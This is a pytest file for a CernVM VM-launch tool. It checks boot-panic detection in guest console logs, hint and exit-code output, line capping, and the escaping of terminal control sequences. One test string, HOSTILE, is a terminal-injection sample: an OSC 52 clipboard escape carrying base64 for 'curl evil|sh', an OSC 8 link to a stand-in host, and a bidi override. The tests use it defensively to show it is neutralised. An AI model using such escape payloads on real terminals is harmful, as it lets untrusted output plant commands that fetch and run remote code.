"""A failed boot ends wait at once: the console log is read for μCernVM's and the kernel's panics."""

from __future__ import annotations

import io
import sys
import threading
from pathlib import Path
from typing import Any

import libvirt
import pytest

from cernvm_build import launch
from cernvm_build.cli.launch import main
from cernvm_build.launch import bootwatch, domain
from tests.launch.support import create, driver_host, request

DEMO_PANIC = """\
[    0.000000] Linux version 6.1.0 (builder@cernvm) #1 SMP
[    1.2] ucernvm: devices: scratch disk /dev/vda1
[    1.3] ucernvm: cvmfs: mounting demo.cern.ch (latest, first boot) from cvmfs-stratum-one.cern.ch
\x1b[0m
[   34.1] ucernvm: panic: CernVM-FS mount of demo.cern.ch failed: no answer from any server
ucernvm: dropping to a rescue shell (exit it to power off)
/ #
"""


def test_a_ucernvm_panic_is_found_with_its_lines_and_the_demo_hint() -> None:
    failure = bootwatch.check(DEMO_PANIC, name="vm")
    assert failure is not None
    assert failure.reason == "CernVM-FS mount of demo.cern.ch failed: no answer from any server"
    assert "--cvmfs-server 10.0.2.2:PORT" in failure.hint
    assert failure.lines.splitlines()[-1].endswith("no answer from any server")
    assert (
        "mounting demo.cern.ch" in failure.lines
        and "/ #" not in failure.lines
        and "\x1b" not in failure.lines
    )


def test_the_hint_names_the_server_when_one_was_given() -> None:
    failure = bootwatch.check(DEMO_PANIC, cvmfs_server="10.0.2.2:8000")
    assert (
        failure is not None
        and "10.0.2.2:8000" in failure.hint
        and "--cvmfs-server 10.0.2.2:PORT" not in failure.hint
    )


def test_a_kernel_panic_is_found() -> None:
    text = "Linux version 6.1\nKernel panic - not syncing: VFS: Unable to mount root fs\n"
    failure = bootwatch.check(text)
    assert failure is not None and failure.reason.startswith("VFS: Unable to mount root")
    assert "kernel could not boot" in failure.hint


def test_a_panic_of_an_earlier_boot_does_not_count() -> None:
    again = (
        DEMO_PANIC
        + "[    0.000000] Linux version 6.1.0 (builder@cernvm) #1 SMP\n[ 1.0] ucernvm: devices: ok\n"
    )
    assert bootwatch.check(again) is None
    assert bootwatch.check("Linux version 6.1\n[ 2.0] ucernvm: cvmfs: mounted\n") is None


def _console(conn: Any, name: str) -> Path:
    meta = domain.metadata_of(conn.lookupByName(name).XMLDesc(0))
    assert meta is not None
    return Path(meta.console_log)


@pytest.mark.parametrize("remove", [False, True])
def test_wait_ends_within_seconds_of_a_panic(conn: Any, launch_env: Path, image: Path, remove: bool) -> None:
    create(conn, request(launch_env, image, "vm"))
    log = _console(conn, "vm")
    log.write_text("Linux version 6.1\n[ 1.0] ucernvm: cvmfs: mounting demo.cern.ch\n")
    # the panic arrives while wait polls
    writer = threading.Timer(1.0, lambda: log.write_text(DEMO_PANIC))
    writer.start()
    # a wait that ignored the panic would run into pytest-timeout, not pass
    with pytest.raises(launch.BootFailedError) as e:
        launch.wait_ready(
            driver_host(conn), "vm", timeout=600, remove_on_failure=launch_env if remove else None
        )
    writer.join()
    assert "failed to boot: CernVM-FS mount of demo.cern.ch failed" in str(e.value)
    assert "--cvmfs-server 10.0.2.2:PORT" in (e.value.hint or "")
    assert "no answer from any server" in e.value.console_tail
    if remove:
        assert "vm" not in [d.name() for d in conn.listAllDomains(0)]
        assert not log.parent.exists()
    else:
        assert not conn.lookupByName("vm").isActive()  # powered off, kept for 'console'


def test_cli_create_prints_the_console_lines_and_the_hint(
    driver_uri: str, launch_env: Path, image: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The console lines and the hint are printed as they are (brackets included), exit 8."""
    conn = libvirt.open(driver_uri)
    create(conn, request(launch_env, image, "vm"))
    _console(conn, "vm").write_text(DEMO_PANIC)
    code = main(["wait", "vm", "--timeout", "600"], connect=lambda uri: driver_host(conn))
    err = capsys.readouterr().err
    assert code == 8
    assert "[   34.1] ucernvm: panic: CernVM-FS mount of demo.cern.ch failed" in err
    assert "--cvmfs-server 10.0.2.2:PORT" in err and "Traceback" not in err


HOSTILE = "\x1b]52;c;Y3VybCBldmlsfHNo\x07 clipboard \x1b]8;;http://evil/\x07link\x1b]8;;\x07 \u202eevil\n"


def test_a_panic_is_a_line_of_its_own_and_its_reason_is_capped() -> None:
    """Anything a boot-time program prints could contain the words; only init's and the kernel's
    own lines (at a line's start, after the uptime stamp) count. A long reason is cut."""
    assert bootwatch.check("Linux version 6.1\n[ 2.0] myapp: ucernvm: panic: fake\n") is None
    assert bootwatch.check("Linux version 6.1\necho ucernvm: panic: x\n") is None
    assert bootwatch.check("Linux version 6.1\nsay Kernel panic - not syncing: no\n") is None
    assert bootwatch.check("Linux version 6.1\nucernvm: panic: unstamped\n") is not None
    stamped = bootwatch.check("Linux version 6.1\n[    2.345678] Kernel panic - not syncing: VFS\n")
    assert stamped is not None and stamped.reason == "VFS"
    long = bootwatch.check("Linux version 6.1\n[ 1.0] ucernvm: panic: " + "A" * 100_000 + "\n")
    assert long is not None and len(long.reason) == bootwatch.REASON_MAX + 1


def test_the_console_reaches_the_terminal_escaped(
    driver_uri: str,
    launch_env: Path,
    image: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """OSC 52 (clipboard), OSC 8 (links) and bidi controls the guest printed are shown as \\xNN: in
    wait's console lines always, in 'console --log' when it writes to a terminal."""
    conn = libvirt.open(driver_uri)
    create(conn, request(launch_env, image, "vm"))
    coloured = "[  OK  ] \x1b[0;32mStarted\x1b[0m sshd: error: none\n"  # systemd's colours: dropped
    _console(conn, "vm").write_text(DEMO_PANIC.replace("\x1b[0m\n", coloured + "error: " + HOSTILE))
    assert main(["wait", "vm", "--timeout", "600"], connect=lambda uri: driver_host(conn)) == 8
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\u202e" not in err and "\x07" not in err
    assert "\\x1b]52;c;" in err and "Started sshd: error: none" in err

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    for tty, escaped in ((False, False), (True, True)):
        out = Terminal() if tty else io.StringIO()
        monkeypatch.setattr(sys, "stdout", out)
        assert main(["console", "--log", "vm"], connect=lambda uri: driver_host(conn)) == 0
        assert ("\x1b" not in out.getvalue()) is escaped and "clipboard" in out.getvalue()
        assert ("Started sshd" in out.getvalue()) is escaped  # raw to a pipe, as the guest wrote it


def test_a_huge_console_line_is_cut_where_it_is_printed(
    driver_uri: str, launch_env: Path, image: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A 200 KB panic line (NULs, a binary on the console) was printed whole with wait's error
    (pr19b finding 5): each console line is cut after LINE_MAX characters, the rest still shown."""
    conn = libvirt.open(driver_uri)
    create(conn, request(launch_env, image, "vm"))
    huge = "[ 1.0] ucernvm: error: " + "\x00A" * 50_000 + "\n[ 2.0] ucernvm: panic: " + "B" * 100_000 + "\n"
    _console(conn, "vm").write_text("Linux version 6.1\n" + huge)
    assert main(["wait", "vm", "--timeout", "600"], connect=lambda uri: driver_host(conn)) == 8
    err = capsys.readouterr().err
    assert "ucernvm: error: \\x00A\\x00A" in err and "ucernvm: panic: BBB" in err
    assert max(len(line) for line in err.splitlines()) < 4 * bootwatch.LINE_MAX + 100
